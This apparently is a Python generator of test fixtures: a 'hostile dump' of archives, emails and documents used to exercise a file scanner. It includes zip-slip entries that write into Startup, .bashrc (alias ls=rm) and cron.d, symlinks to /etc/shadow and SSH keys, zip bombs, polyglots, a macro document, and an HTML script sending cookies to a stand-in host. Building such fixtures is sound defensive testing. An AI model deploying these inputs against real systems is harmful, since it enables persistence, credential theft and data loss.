    """root/share/deep/d/d/.../name, levels deep: a path longer than PATH_MAX
    (made one directory at a time, with directory descriptors)."""
    fd = os.open(root, os.O_RDONLY | os.O_DIRECTORY)
    for part in ["share", "deep"] + ["directory%03d" % i for i in range(levels)]:
        try:
            os.mkdir(part, dir_fd=fd)
        except FileExistsError:
            pass
        nfd = os.open(part, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = nfd
    f = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644, dir_fd=fd)
    os.write(f, data)
    os.close(f)
    os.close(fd)
    return os.path.join(root, "share", "deep", *["directory%03d" % i for i in range(levels)], name)


def _7z_links(work):
    """A 7z holding symlinks (7z -snl): one absolute, one climbing out."""
    d = os.path.join(work, ".7zlinks")
    os.makedirs(d)
    os.symlink("/etc/shadow", os.path.join(d, "shadow"))
    os.symlink("../../../../root/.ssh", os.path.join(d, "keys"))
    write(d, "ok.txt", CLEAN_TEXT)
    dst = os.path.join(d, "out.7z")
    data = None
    if _7z(["a", "-bd", "-y", "-snl", dst, "shadow", "keys", "ok.txt"], d):
        with open(dst, "rb") as f:
            data = f.read()
    shutil.rmtree(d, ignore_errors=True)
    return data


def _7z_absolute(work):
    """A 7z whose member name is an absolute path (7z -spf)."""
    d = os.path.join(work, ".7zabs")
    os.makedirs(d)
    src = write(d, "authorized_keys", b"ssh-ed25519 AAAAC3Nza attacker@example.net\n")
    dst = os.path.join(d, "out.7z")
    data = None
    if _7z(["a", "-bd", "-y", "-spf", dst, src], d):
        with open(dst, "rb") as f:
            data = f.read()
    shutil.rmtree(d, ignore_errors=True)
    return data


def hostile_dump(out):
    """Write OUT/dump (see above); return {case: root path}."""
    out = os.path.abspath(out)
    root = os.path.join(out, "dump")
    work = os.path.join(out, ".dumpwork")
    os.makedirs(work, exist_ok=True)
    cases = {}

    def put(case, rel, data):
        if data is None:
            return
        path = os.path.join(root, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)
        cases[case] = path

    docx_clean = _docx(CLEAN_TEXT)
    docx_pii = _docx(PII_TEXT)
    pdf_pii = _pdf(PII_TEXT)
    # --- the file share
    put("clean_docx", "share/hr/picnic.docx", docx_clean)
    put("clean_txt", "share/hr/readme.txt", CLEAN_TEXT)
    inner7z = _7z_bytes(work, [("employees.csv", b"name,ssn\nJane Doe,536-22-1874\n")])
    if inner7z:
        # zip -> tar.gz -> 7z -> csv: the csv is depth 3
        put("pii_depth3", "share/hr/payroll_2019.zip",
            zip_bytes([("archive.tar.gz", _tgz([("inner.7z", inner7z), ("notes.txt", CLEAN_TEXT)])),
                       ("readme.txt", CLEAN_TEXT)]))
    else:
        put("pii_depth3", "share/hr/payroll_2019.zip",
            zip_bytes([("archive.tar.gz", _tgz([("inner.zip", zip_bytes([("employees.csv", PII_TEXT)]))]))]))
    put("zip_slip", "share/it/backup.zip", slip_zip())
    put("lookalike", "share/it/unicode_paths.zip", lookalike_zip())
    put("long_names", "share/it/long_names.zip", longname_zip())
    put("ctrl_names", "share/it/ctrl_names.zip", ctrl_names_zip())
    put("long_pax", "share/it/paths.tar.gz", gzip.compress(long_pax_tar(), mtime=0))
    put("links_tar", "share/it/system.tar.gz", gzip.compress(links_tar(), mtime=0))
    l7 = _7z_links(work)
    if l7:
        put("links_7z", "share/it/home_backup.tar.gz", _tgz([("home.7z", l7)]))
    a7 = _7z_absolute(work)
    if a7:
        put("abs_7z", "mail/jdoe/inbox/0008.eml",
            _eml("keys", "for the server\n", [("keys.7z", a7, "application/x-7z-compressed")]))
    put("symlink_through", "share/it/through.tar", symlink_through_tar())
    put("zipcrypto", "share/finance/locked.zip", zipcrypto_zip())
    aes = _7z_bytes(work, [("ledger.txt", PII_TEXT)], ["-tzip", "-pinfected", "-mem=AES256"])
    put("aes_zip", "share/finance/aes.zip", aes)
    e7 = _7z_bytes(work, [("ledger.txt", PII_TEXT)], ["-pinfected", "-mhe=on"])
    if e7:
        put("enc_7z_nested", "share/finance/vault.zip", zip_bytes([("vault.7z", e7), ("index.txt", CLEAN_TEXT)]))
    put("enc_ooxml", "share/finance/budget_protected.docx", enc_ooxml())
    z = zip_bytes([("a.txt", PII_TEXT * 40), ("b.bin", os.urandom(8192)), ("c.txt", CLEAN_TEXT * 40)])
    put("trunc_zip", "share/broken/cut.zip", z[: len(z) // 2])
    put("trunc_tar", "share/broken/cut.tar", truncated_tar())
    g = gzip.compress(CLEAN_TEXT * 2000, mtime=0)
    put("trunc_gz", "share/broken/cut.log.gz", g[: len(g) // 2])
    # a short gzip cut anywhere: libarchive decodes nothing of it (its filter
    # drops the block it was decoding); the prefix before the cut still holds PII
    g = gzip.compress(PII_TEXT * 30, mtime=0)
    put("trunc_gz_small", "share/broken/staff.txt.gz", g[: len(g) * 2 // 3])
    # cut inside the cross-reference table: every object is whole, the
    # trailer is gone (a download that broke off near its end)
    put("trunc_pdf", "share/broken/cut.pdf", pdf_pii[: pdf_pii.rfind(b"\nxref") + 40])
    d = _docx(CLEAN_TEXT * 30)
    put("trunc_docx", "share/broken/cut.docx", d[: len(d) * 2 // 3])
    # a document package is a zip too: unzipped, its "../" part lands outside
    with zipfile.ZipFile(io.BytesIO(_docx(CLEAN_TEXT))) as zf:
        parts = [(n, zf.read(n)) for n in zf.namelist()]
    put("docx_slip", "share/templates/letter.docx",
        zip_bytes(parts + [("../../../Startup/evil.vbs", b"MsgBox 1\n")]))
    put("cd_mismatch", "share/broken/disagree.zip", cd_mismatch_zip())
    put("cd_slip", "share/broken/two_faced.zip", cd_slip_zip())
    put("fifield", "share/tmp/overlap.zip", fifield_bomb())
    put("nest42", "share/tmp/fortytwo.zip", small42())
    # quine-like: r.zip holding r.zip holding r.zip ... 40 levels (a true
    # quine, Cox's r.zip, recurses forever; the depth limit is what stops it)
    q = zip_bytes([("r.txt", CLEAN_TEXT)])
    for _ in range(40):
        q = zip_bytes([("r.zip", q)])
    put("quine_like", "share/tmp/r.zip", q)
    put("gz_nest5", "share/tmp/log.txt.gz.gz.gz.gz.gz", gz_nest(5))
    put("gz_nest30", "share/tmp/deep.gz", gz_nest(30))
    put("pdf_zip_polyglot", "share/docs/brochure.pdf", pdf_pii + zip_bytes([("hidden.csv", PII_TEXT)]))
    jpeg = (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
            + b"\xff\xdb\x00\x43\x00" + bytes(range(1, 65)) + b"\xff\xd9")
    put("jpeg_zip", "share/docs/team_photo.jpg", jpeg + zip_bytes([("hidden.txt", PII_TEXT)]))
    put("docx_as_jpg", "share/docs/scan_0001.jpg", docx_clean)
    put("exe_as_pdf", "share/docs/invoice.pdf",
        b"MZ\x90\x00" + b"\0" * 56 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0\x4c\x01\x01\x00" + b"\0" * 300)
    put("empty_file", "share/misc/empty.txt", b"")
    put("empty_zip_0", "share/misc/zero.zip", b"")
    put("empty_zip_22", "share/misc/empty.zip", _eocd(0, 0, 0))
    sp = sparse_tar(work, size=8 << 30)
    if sp:
        with open(sp, "rb") as f:
            put("sparse_tar", "share/misc/disk.tar", f.read())
    deep = os.path.join("share", *["level%03d" % i for i in range(120)])
    put("deep_dirs", os.path.join(deep, "buried.txt"), PII_TEXT)
    cases["deep_pathmax"] = _deep_file(root, 480, "far.txt", PII_TEXT)
    # --- mailboxes
    put("eml_slip", "mail/jdoe/inbox/0001.eml",
        _eml("tools", "see attached\n",
             [("tools.zip", zip_bytes([("../../../../home/jdoe/.bashrc", b"alias ls=rm\n"),
                                       ("readme.txt", CLEAN_TEXT)]), "application/zip")]))
    put("eml_pii_deep", "mail/jdoe/inbox/0002.eml",
        _eml("records", "records attached\n",
             [("records.zip", zip_bytes([("2019/q1.tar.gz", _tgz([("staff.docx", docx_pii)]))]),
               "application/zip")]))
    put("eml_docx_jpg", "mail/jdoe/inbox/0003.eml",
        _eml("photo", "holiday photo\n", [("photo.jpg", docx_pii, "image/jpeg")]))
    put("eml_clean", "mail/jdoe/inbox/0004.eml", _eml("lunch", "Lunch at noon?\n", []))
    put("eml_att_slip", "mail/jdoe/inbox/0007.eml",
        _eml("cron", "install this\n",
             [("../../../../etc/cron.d/evil", b"* * * * * root sh /tmp/x\n", "text/plain"),
              ("C:\\Users\\Public\\run.bat", b"echo hi\n", "text/plain")]))
    # --- active content, nested
    import gen_docs
    import gen_pdf
    put("pdf_js_in_zip", "share/docs/forms.zip",
        zip_bytes([("forms/apply.pdf", gen_pdf.make_javascript()), ("forms/readme.txt", CLEAN_TEXT)]))
    put("docm_in_eml", "mail/jdoe/inbox/0005.eml",
        _eml("invoice", "please enable content\n",
             [("invoice.docm", gen_docs.zip_bytes(gen_docs.docx_parts({}, vba=True, embed=False)),
               "application/vnd.ms-word.document.macroEnabled.12")]))
    put("html_script", "mail/jdoe/inbox/0006.eml",
        _eml("newsletter", "html attached\n",
             [("news.html", b"<html><body><p>News</p><script>document.location='http://x.test/'+"
               b"document.cookie</script></body></html>", "text/html")]))
    put("zip_symlink", "share/it/links.zip", zip_symlink())
    shutil.rmtree(work, ignore_errors=True)
    return cases


def main(argv):
    if len(argv) == 3 and argv[1] == "--dump":
        for case, path in sorted(hostile_dump(argv[2]).items()):
            print("%-20s %s" % (case, path))
        return 0
    if len(argv) == 3 and argv[1] == "--corpus":
        corpus(argv[2])
        return 0
    if len(argv) < 2:
        print(__doc__, file=sys.stderr)
        return 2
    for name, path in sorted(build(argv[1], argv[2:] or None).items()):
        print("%-24s %10d %s" % (name, os.path.getsize(path), path))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
